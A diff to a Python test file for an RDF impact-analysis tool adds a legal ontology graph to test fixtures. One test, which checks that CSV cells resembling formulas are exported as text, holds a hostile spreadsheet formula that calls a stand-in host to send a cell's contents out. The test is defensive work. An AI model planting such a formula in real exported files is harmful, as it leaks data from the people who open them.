@@ -56,10 +56,11 @@ def one(report: ImpactReport, local: str):  # type: ignore[no-untyped-def]
 
 @pytest.fixture(scope="module")
 def fixture_store() -> EmbeddedStore:
-    """The hand-built graph and the real impact rules, in memory."""
+    """The hand-built graph with the real impact rules and legal classes (what a what-if may change), in memory."""
     dataset = Dataset()
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
+    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/legal")).parse(ROOT / "ontology/legal.ttl")
     store = EmbeddedStore(None)
     store.replace(dataset)
     return store
@@ -364,6 +365,7 @@ def test_csv_cells_that_look_like_formulas_are_written_as_text() -> None:
     dataset = Dataset()
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
+    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/legal")).parse(ROOT / "ontology/legal.ttl")
     hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/hostile")).add(
         (URIRef(ID + "doc/t-d1"), URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(hostile, lang="en")))
